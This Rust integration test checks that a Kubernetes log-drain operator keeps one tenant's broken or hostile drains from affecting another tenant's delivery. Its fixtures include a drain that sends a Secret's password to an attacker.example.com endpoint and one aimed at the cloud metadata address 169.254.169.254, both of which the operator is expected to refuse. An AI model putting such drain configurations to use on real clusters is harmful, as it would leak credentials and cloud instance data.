//! Two tenants on one node, through the real API server, the operator and a real collector: every
//! way tenant A (namespace `rogue`) can make its drains bad at once, while tenant B (namespace
//! `shop`) ships from a container on the same node. B's lines arrive exactly (compared as
//! multisets) at both of B's receivers, B's drains say Ready and Delivering with no failure in
//! status or metrics, and each of A's problems shows in A's status and A's metric series only.
//!
//! A's drains, one stand for all (one binding each, selecting A's container):
//! * `invalid`: a template the collector could not build (`InvalidSpec`, never rendered);
//! * `huge`: over a drain's 64 KiB budget (`ConfigTooLarge`);
//! * `crowding`: within its budget but over the node's limit, set low here (`ConfigTooLarge`,
//!   left out largest first);
//! * `exfil`: credentials from a Secret without the opt-in label (`SecretNotPermitted`);
//! * `refused`, `stalled`, `reset`: receivers that refuse connections, never answer, or reset
//!   every connection (`Delivering=False`, `DrainFailing`);
//! * `metadata`: the cloud metadata address, refused by the destinations policy (`DrainFailing`,
//!   counted as `cause=destination`).

use std::time::Duration;

use anyhow::{Result, ensure};
use serde_json::{Value, json};
use sluice_api::crd::{LogBinding, LogDrain};
use sluice_tests::{
    LineSpec,
    collector::{ClusterArgs, Collector},
    faulty::Faulty,
    fixture::{docker_rig, expect_exact, lines},
    http::HttpReceiver,
    kube::{COLLECTOR_USER, KubeRig, Placement},
    multiset::Multiset,
    support::wait_until,
    syslog::Rsyslog,
};

const DELIVERY_TIMEOUT: Duration = Duration::from_secs(180);
/// Long enough for an HTTP attempt's timeout (10 s), a Lease renewal (10 s) and a status write.
const STATUS_TIMEOUT: Duration = Duration::from_secs(90);
const NODE: &str = "node-a";
const ROGUE: &str = "rogue";
/// The node config limit of this stand: room for every drain but `crowding`.
const NODE_LIMIT: usize = 24 * 1024;

/// Apply LogDrain `ns/name` with `spec`, and a LogBinding of the same name feeding it from the
/// pods with `app=<app>`.
fn drain_and_binding(kube: &KubeRig, ns: &str, name: &str, app: &str, spec: Value) -> Result<()> {
    kube.apply_in::<LogDrain>(
        ns,
        json!({"apiVersion": "sluice.dev/v1alpha1", "kind": "LogDrain",
               "metadata": {"name": name}, "spec": spec}),
    )?;
    kube.apply_in::<LogBinding>(
        ns,
        json!({"apiVersion": "sluice.dev/v1alpha1", "kind": "LogBinding",
               "metadata": {"name": name},
               "spec": {"selector": {"matchLabels": {"app": app}}, "drains": [name]}}),
    )
}

/// `count` HTTP headers of `bytes` bytes each.
fn headers(count: usize, bytes: usize) -> Value {
    (0..count)
        .map(|i| (format!("X-Pad-{i}"), Value::String("p".repeat(bytes))))
        .collect::<serde_json::Map<_, _>>()
        .into()
}

#[test]
fn one_tenants_bad_drains_leave_the_others_lines_exact() -> Result<()> {
    let test = "one_tenants_bad_drains_leave_the_others_lines_exact";
    let Some(rig) = docker_rig(test)? else {
        return Ok(());
    };
    let Some(mut kube) = KubeRig::start(test)? else {
        return Ok(());
    };
    let docker = &rig.docker;
    let shop = kube.tenant.clone();
    kube.create_namespace(ROGUE)?;
    kube.start_operator_with(&[ROGUE], |s| s.node_config_limit = NODE_LIMIT)?;
    let rsyslog = Rsyslog::start(&rig.rsyslog_bin)?;
    let http = HttpReceiver::start()?;
    let (refusing, stalling, resetting) = (Faulty::refusing()?, Faulty::stalling()?, Faulty::resetting()?);
    let mut node = Collector::start_cluster(
        &rig.bins,
        ClusterArgs {
            node: NODE.into(),
            namespace: kube.system.clone(),
            kubeconfig: kube.kubeconfig_for(COLLECTOR_USER)?,
            docker_root: docker.root().to_owned(),
        },
    )?;

    // Tenant A's drains, bad in every way a tenant can make them.
    kube.create_secret_in(ROGUE, "db", &[("password", "hunter2")], &[])?;
    let rogue = |name: &str, spec: Value| drain_and_binding(&kube, ROGUE, name, "rogue", spec);
    rogue(
        "invalid",
        json!({"url": format!("syslog://127.0.0.1:{}", rsyslog.ports.tcp),
               "format": {"appName": "{namespace}/{bogus}"}}),
    )?;
    rogue(
        "huge",
        json!({"url": http.url(), "http": {"headers": headers(32, 2500)}}),
    )?;
    rogue(
        "crowding",
        json!({"url": http.url(), "http": {"headers": headers(20, 1500)}}),
    )?;
    rogue(
        "exfil",
        json!({"url": "https://attacker.example.com/collect",
               "credentials": {"secretName": "db", "bearerTokenKey": "password"}}),
    )?;
    rogue("refused", json!({"url": format!("syslog://{}", refusing.addr())}))?;
    rogue(
        "stalled",
        json!({"url": format!("http://{}/ingest", stalling.addr())}),
    )?;
    rogue(
        "reset",
        json!({"url": format!("http://{}/ingest", resetting.addr())}),
    )?;
    rogue(
        "metadata",
        json!({"url": "http://169.254.169.254/latest/meta-data"}),
    )?;
    // Tenant B's drains: one syslog, one HTTP, fed by the same container.
    let syslog_url = format!("syslog://127.0.0.1:{}", rsyslog.ports.tcp);
    drain_and_binding(&kube, &shop, "logs", "shop", json!({"url": syslog_url}))?;
    drain_and_binding(&kube, &shop, "api", "shop", json!({"url": http.url()}))?;

    // Both tenants' containers on the one node, A's first.
    let (rogue_a, shop_b) = (
        LineSpec::new("rogue-a", 60, 140),
        LineSpec::new("shop-b", 60, 140),
    );
    let count = 3000;
    let at = |ns, app| Placement { ns, node: NODE, app };
    let ids = [
        kube.workload(docker, &at(ROGUE, "rogue"), &rogue_a, count, 500)?,
        kube.workload(docker, &at(&shop, "shop"), &shop_b, count, 500)?,
    ];
    for id in &ids {
        ensure!(docker.wait(id)? == 0, "loggen failed");
    }
    let want = lines(&shop_b, 0, count);
    let logs = || node.log_tail(15);
    let rs_msgs = || -> Multiset { rsyslog.received().iter().map(|m| m.msg.clone()).collect() };
    let http_msgs = || -> Multiset { http.messages().into_iter().collect() };
    expect_exact("tenant B's syslog drain", &want, DELIVERY_TIMEOUT, rs_msgs, logs)?;
    expect_exact("tenant B's HTTP drain", &want, DELIVERY_TIMEOUT, http_msgs, logs)?;

    // A's problems in A's status: refused before rendering, or failing where they were rendered.
    let ready = |name: &str, reason: &str| {
        kube.wait_condition_in(ROGUE, name, "Ready", ("False", reason), STATUS_TIMEOUT)
    };
    let message = ready("invalid", "InvalidSpec")?;
    assert!(message.starts_with("spec.format.appName: "), "{message}");
    let message = ready("huge", "ConfigTooLarge")?;
    assert!(message.ends_with("a drain may take at most 64 KiB"), "{message}");
    let message = ready("crowding", "ConfigTooLarge")?;
    assert!(
        message.starts_with(&format!("left out of the config of node(s) {NODE}: ")),
        "{message}"
    );
    let message = ready("exfil", "SecretNotPermitted")?;
    assert!(message.contains("sluice.dev/drain-credentials=true"), "{message}");
    for name in ["refused", "stalled", "reset", "metadata"] {
        kube.wait_condition_in(
            ROGUE,
            name,
            "Delivering",
            ("False", "DrainFailing"),
            STATUS_TIMEOUT,
        )?;
    }
    let (_, _, message) = kube
        .condition_in(ROGUE, "metadata", "Delivering")
        .unwrap_or_default();
    assert!(message.contains("destinations policy"), "{message}");
    for (name, reason) in [
        ("invalid", "InvalidSpec"),
        ("huge", "ConfigTooLarge"),
        ("crowding", "ConfigTooLarge"),
        ("exfil", "SecretNotPermitted"),
        ("refused", "DrainFailing"),
    ] {
        // An Event follows its status write; wait for it rather than race it.
        wait_until(
            &format!("a {reason} Event about {ROGUE}/{name}"),
            STATUS_TIMEOUT,
            || kube.has_event_in(ROGUE, name, reason).ok()?.then_some(()),
            || format!("{:?}", kube.condition_in(ROGUE, name, "Ready")),
        )?;
    }

    // ... and in A's metric series: the rendered ones failed, by cause.
    let failures = |drain: &str, cause: Option<&str>| {
        let drain = format!("{ROGUE}-{drain}");
        let mut labels = vec![("drain", drain.as_str())];
        labels.extend(cause.map(|c| ("cause", c)));
        node.metric_sum("sluice_collector_delivery_failures_total", &labels)
    };
    for name in ["refused", "stalled", "reset"] {
        assert!(failures(name, None) > 0.0, "no failure counted for {name}");
    }
    assert!(
        failures("metadata", Some("destination")) > 0.0,
        "the metadata address was not counted as refused by policy"
    );
    assert_eq!(
        node.metric("sluice_collector_drains_skipped"),
        0.0,
        "the operator rendered a drain the collector could not build"
    );

    // B: Ready, Delivering, every line counted once, nothing failed or dropped.
    for name in ["logs", "api"] {
        kube.wait_condition_in(&shop, name, "Ready", ("True", "Resolved"), STATUS_TIMEOUT)?;
        kube.wait_condition_in(&shop, name, "Delivering", ("True", "Delivering"), STATUS_TIMEOUT)?;
        let drain = format!("{shop}-{name}");
        let metric = |name: &str| node.metric_sum(name, &[("drain", &drain)]);
        // Counted when the receiver's answer is processed, just after it recorded the lines.
        let delivered = "sluice_collector_lines_delivered_total";
        wait_until(
            &format!("{delivered} of {drain} = {count}"),
            STATUS_TIMEOUT,
            || (metric(delivered) == count as f64).then_some(()),
            || format!("{}", metric(delivered)),
        )?;
        for name in [
            "sluice_collector_delivery_failures_total",
            "sluice_collector_lines_dropped_total",
        ] {
            assert_eq!(metric(name), 0.0, "{name} of {drain}");
        }
        wait_until(
            &format!("status.delivery of {shop}/{name}: {count} lines delivered, no failure"),
            STATUS_TIMEOUT,
            || {
                let delivery = kube.drain_status_in(&shop, name).ok()??.delivery?;
                let exact = delivery.lines_delivered == count as i64
                    && delivery.attempts_failed == 0
                    && delivery.lines_dropped == 0
                    && delivery.last_error.is_none();
                exact.then_some(())
            },
            || format!("{:?}", kube.drain_status_in(&shop, name)),
        )?;
    }
    ensure!(node.is_running(), "the collector stopped:\n{}", node.log_tail(30));
    Ok(())
}
